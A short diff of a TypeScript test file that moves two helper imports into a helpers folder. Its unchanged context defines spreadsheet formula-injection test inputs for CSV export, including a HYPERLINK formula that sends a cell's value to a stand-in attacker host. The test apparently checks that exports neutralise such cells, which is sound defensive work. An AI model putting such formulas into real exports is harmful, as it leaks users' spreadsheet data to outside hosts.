@@ -9,8 +9,8 @@ import { describe, expect, it } from 'vitest';
 import { AccountSource, ActionKind } from '../protocol/host-codec.ts';
 import { newSecret } from '../provisioner/registry/secret.ts';
 import { ManualClock } from '../provisioner/service/clock.ts';
-import { intoWrapUp, tempDir, useServiceRig } from './service-harness.ts';
-import { cliIn } from './station-cli-fixtures.ts';
+import { intoWrapUp, tempDir, useServiceRig } from './helpers/service-harness.ts';
+import { cliIn } from './helpers/station-cli-fixtures.ts';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
 /** What a spreadsheet would run: a cell that, after CSV unquoting, starts with a formula character. */
